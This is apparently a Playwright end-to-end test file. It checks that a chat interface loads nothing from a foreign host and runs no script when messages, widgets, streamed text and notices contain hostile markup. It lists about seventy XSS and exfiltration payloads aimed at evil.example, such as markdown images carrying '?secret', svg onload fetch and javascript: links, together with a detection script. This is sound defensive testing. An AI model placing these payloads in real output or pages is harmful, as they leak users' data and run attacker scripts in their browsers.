"""What a model or a task says makes the browser ask nobody, and runs nothing, until the person clicks."""

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.launcher import Launcher
from tests.e2e.people import Person
from tests.e2e.stage import Stage, assistant, frames, user

EVIL = "https://evil.example"
VARIANTS = [
    "![x](EVIL/1?secret)",
    '![x](EVIL/2?secret "title")',
    "![x](<EVIL/3?secret>)",
    "![x][ref4]\n\n[ref4]: EVIL/4?secret",
    "![ref5]\n\n[ref5]: EVIL/5?secret",
    "[![x](EVIL/6?secret)](EVIL/6b?secret)",
    "![![x](EVIL/7)](EVIL/7b)",
    "![x](//evil.example/8?secret)",
    "![x](http://evil.example/9?secret)",
    "![x](&#104;ttps://evil.example/10)",
    "!\\[x](EVIL/11)![y](EVIL/11b)",
    "# ![x](EVIL/12)",
    "> ![x](EVIL/13)",
    "- ![x](EVIL/14)",
    "1. ![x](EVIL/15)",
    "| ![x](EVIL/16) | b |\n|---|---|\n| ![y](EVIL/16b) | d |",
    "**![x](EVIL/17)**",
    "~~![x](EVIL/18)~~",
    "![x](EVIL/19){width=1}",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    '<img src="EVIL/20?secret">',
    "<img src=EVIL/21 onerror=alert(1)>",
    "<IMG SRC='EVIL/22'>",
    '<img\nsrc="EVIL/23"\n>',
    '<picture><source srcset="EVIL/24"><img></picture>',
    '<img srcset="EVIL/25 1x">',
    '<video poster="EVIL/26" src="EVIL/26b" autoplay></video>',
    '<audio src="EVIL/27" autoplay></audio>',
    '<iframe src="EVIL/28"></iframe>',
    "<iframe srcdoc=\"<script>fetch('EVIL/29')</script>\"></iframe>",
    '<object data="EVIL/30"></object><embed src="EVIL/30b">',
    '<link rel="stylesheet" href="EVIL/31"><link rel="preload" as="image" href="EVIL/31b">',
    '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="EVIL">',
    "<style>body{background:url(EVIL/32)}</style>",
    "<style>@import 'EVIL/33';</style>",
    '<div style="background:url(EVIL/34)">x</div>',
    '<table background="EVIL/35"><tr><td>x</td></tr></table>',
    '<body background="EVIL/36">',
    '<meta http-equiv="refresh" content="0;url=EVIL/37">',
    '<base href="EVIL/38/">',
    "<script>fetch('EVIL/39')</script>",
    '<script src="EVIL/40"></script>',
    "<svg onload=fetch('EVIL/41')>",
    '<svg><image href="EVIL/42" /><use href="EVIL/42b#a" /></svg>',
    "<svg><style>*{fill:url(EVIL/43)}</style></svg>",
    '<math><mi xlink:href="EVIL/44">x</mi></math>',
    '<form action="EVIL/45"><input type="image" src="EVIL/45b"></form>',
    '<input type="image" src="EVIL/46">',
    "<details open ontoggle=fetch('EVIL/47')>",
    '<a href="EVIL/48" ping="EVIL/48b">x</a>',
    "<!--><img src=EVIL/49>-->",
    "<![CDATA[<img src=EVIL/50>]]>",
    "<?php <img src=EVIL/51> ?>",
    "&lt;img src=EVIL/52&gt;",
    "`<img src=EVIL/53>`",
    "```html\n<img src=EVIL/54>\n```",
    "    <img src=EVIL/55>",
    "[x](javascript:fetch('EVIL/56'))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "https://evil.example/57?plain www.evil.example/58",
    "<https://evil.example/59>",
    "[^1]\n\n[^1]: ![x](EVIL/60)",
    "$$\\includegraphics{EVIL/61}$$",
    "\u202e![x](EVIL/62)",
]
CORPUS = [variant.replace("EVIL", EVIL) for variant in VARIANTS]

DANGEROUS = """() => {
  const found = [];
  const loading = /^(img|image|picture|source|video|audio|iframe|object|embed|link|style|script|meta|base)$/;
  const walk = (root) => root.querySelectorAll("*").forEach((node) => {
    if (node.shadowRoot) walk(node.shadowRoot);
    const inChat = root instanceof ShadowRoot;
    if (inChat && loading.test(node.localName)) found.push(node.localName);
    if (inChat) for (const { name } of node.attributes) {
      if (/^on|^(src|srcset|poster|background|ping|data|action|formaction)$/.test(name)) found.push(name);
    }
    if (node.localName === "a" && inChat && node.protocol !== "https:") found.push(node.href);
  });
  walk(document);
  return found;
}"""


def watched(page: Page) -> list[str]:
    """Everything that the page asks of the foreign host, and each script that runs."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "evil.example" in request.url else None)
    page.on("dialog", lambda dialog: (asked.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: asked.append(str(error)))
    page.route("**evil.example**", lambda route: route.abort())
    return asked


@pytest.fixture
def reader(tab: Page, remit: Launcher, person: Person) -> Page:
    tab.goto(remit.page)
    tab.get_by_label("E-mail").fill(person.email)
    tab.get_by_label("Password").fill(person.password)
    tab.get_by_role("button", name="Sign in").click()
    expect(tab.get_by_label("Message")).to_be_visible()
    return tab


@pytest.mark.requirement("005/FR-004")
def test_no_text_of_a_conversation_asks_another_host_or_runs_a_script(reader: Page, person: Person) -> None:
    asked = watched(reader)
    said = [item for n, text in enumerate(CORPUS) for item in (user(f"u{n}", text), assistant(f"a{n}", text))]
    parts = [{"type": kind, "value": text} for text in CORPUS for kind in ("Text", "Markdown")]
    shown = {"type": "Card", "children": parts}
    streamed = [{"type": "thread.item.done", "item": user("u", "go")}]
    for n, text in enumerate(CORPUS):
        streamed.append(
            {"type": "thread.item.added", "item": {"type": "assistant_message", "id": f"s{n}", "content": []}}
        )
        streamed += [delta(f"s{n}", text[start : start + 3]) for start in range(0, len(text), 3)]
    streamed += [{"type": "notice", "level": "info", "title": text, "message": text} for text in CORPUS]
    stage = Stage([*said, {"type": "widget", "id": "w", "widget": shown}], streamed)
    stage.open(reader, person.user_id)

    reader.reload()
    expect(reader.get_by_role("article", name="You")).to_have_count(len(CORPUS))
    reader.get_by_label("Message").fill("go")
    reader.get_by_label("Message").press("Enter")
    expect(reader.get_by_role("article", name="Assistant")).to_have_count(2 * len(CORPUS))
    expect(reader.get_by_role("log")).to_have_attribute("aria-busy", "false")

    assert reader.evaluate(DANGEROUS) == []
    assert asked == []
    assert "evil.example" in frames(streamed)


@pytest.mark.requirement("005/FR-004")
def test_the_corpus_bites_where_it_is_taken_for_html(browser: Browser) -> None:
    """The negative control: the same texts as markup, in a page without our policy, ask the foreign host."""
    page = browser.new_page()
    asked = watched(page)

    page.set_content("".join(CORPUS))
    page.wait_for_load_state("networkidle")

    assert len({url.split("?")[0] for url in asked}) >= 10
    page.close()


def delta(item_id: str, text: str) -> dict[str, object]:
    update = {"type": "assistant_message.content_part.text_delta", "content_index": 0, "delta": text}
    return {"type": "thread.item.updated", "item_id": item_id, "update": update}
